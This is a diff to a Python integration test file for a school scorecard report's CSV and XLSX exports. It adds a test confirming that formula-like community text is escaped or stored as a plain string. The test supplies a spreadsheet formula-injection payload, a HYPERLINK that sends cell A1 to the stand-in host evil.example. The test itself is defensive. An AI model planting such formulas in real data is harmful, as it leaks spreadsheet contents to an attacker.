@@ -2,13 +2,17 @@
 
 import csv
 import io
+import uuid
 
 import pytest
 from httpx import AsyncClient
 from openpyxl import load_workbook
 
+from backend.auth.models import Role
 from backend.database.session import Database
 from tests.integration.reports.test_scorecard import _cycle_with_scores
+from tests.support.field import Tablet, programme, school_answers
+from tests.support.sync_data import submission
 
 pytestmark = pytest.mark.asyncio
 
@@ -26,7 +30,8 @@ async def test_xlsx_reads_back_with_the_scores(
     header = [cell.value for cell in sheet[2]]
     assert header[0] == "Үзүүлэлт / Indicator"
     assert "Зөрүү / Gap" in header
-    rows = {(row[0], row[3]): row for row in sheet.iter_rows(min_row=3, values_only=True)}
+    group = header.index("Бүлэг / Group")
+    rows = {(row[0], row[group]): row for row in sheet.iter_rows(min_row=3, values_only=True)}
     overall = rows[("teacher_attendance", "бүгд / all")]
     assert overall[header.index("Дундаж / Mean")] == 3.33
     assert overall[header.index("Зөрүү / Gap")] == -0.67
@@ -43,9 +48,48 @@ async def test_the_providers_csv_holds_no_trace_of_a_small_group(
     assert response.status_code == 200
     assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert response.content.startswith(b"\xef\xbb\xbf")
-    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    scores = response.content.decode("utf-8-sig").split("\r\n\r\n")[0]  # the first table
+    table = list(csv.DictReader(io.StringIO(scores)))
     teachers = [r for r in table if r["Үзүүлэлт / Indicator"] == "teacher_attendance"]
     assert {r["Бүлэг / Group"] for r in teachers} == {"бүгд / all", "parents"}
     overall = next(r for r in teachers if r["Бүлэг / Group"] == "бүгд / all")
     # the parents' two groups alone: the teachers' three people are in no figure
     assert (overall["Дундаж / Mean"], overall["Оролцогч / Participants"]) == ("2.5", "15")
+
+
+async def test_community_text_that_looks_like_a_formula_stays_text(
+    committed_client: AsyncClient, committed_database: Database
+) -> None:
+    field = await programme(committed_database)
+    team = await Tablet(committed_client, await field.user(Role.FACILITATOR)).sign_in()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    answers = school_answers(3)
+    answers["teacher_attendance"] = {"value": 2, "reason": hostile, "suggestion": "+1 teacher"}
+    pushed = await team.push(
+        team.mutation(
+            "submission",
+            "create",
+            uuid.uuid4(),
+            submission(
+                field,
+                group={"type": "parents", "participants": {"female": 5, "male": 4}},
+                answers=answers,
+            ),
+        )
+    )
+    assert pushed["results"][0]["status"] == "applied", pushed
+    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"
+
+    text = (await committed_client.get(f"{url}.csv", headers=team.headers)).content.decode(
+        "utf-8-sig"
+    )
+    reasons = list(csv.reader(io.StringIO(text.split("\r\n\r\n")[1])))
+    assert reasons[0][2] == "Шалтгаан / Reason"
+    assert ["teacher_attendance", "parents", "'" + hostile, "'+1 teacher"] in reasons
+
+    book = load_workbook(
+        io.BytesIO((await committed_client.get(f"{url}.xlsx", headers=team.headers)).content)
+    )
+    cells = {cell.value: cell for row in book["Reasons"].iter_rows() for cell in row}
+    assert cells[hostile].data_type == "s"  # a string, never a formula
+    assert cells["+1 teacher"].data_type == "s"
